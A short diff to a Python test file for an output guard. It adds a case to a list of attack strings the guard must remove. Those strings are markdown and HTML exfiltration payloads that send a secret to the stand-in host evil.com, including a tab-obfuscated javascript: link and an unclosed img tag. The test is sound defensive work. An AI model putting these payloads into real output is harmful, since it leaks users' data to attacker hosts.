@@ -32,6 +32,8 @@ def guarded(text: str, size: int, allowed=ALLOWED) -> tuple[str, AnswerGuard]:
     "[docs](java&#9;script:alert('SECRET'))",
     "x evil.com/p?d=SECRET y",
     '<a href="https://ok.com@evil.com/p?d=SECRET">docs</a>',
+    # a raw HTML block ending inside a tag: the next rendered ``>`` closes it (review finding)
+    "<p><img src=https://evil.com/p.png?d=SECRET\n\nMore text.",
 ])
 @pytest.mark.parametrize("size", [1, 3, 10_000])
 def test_the_reported_forms_are_removed(attack, size):
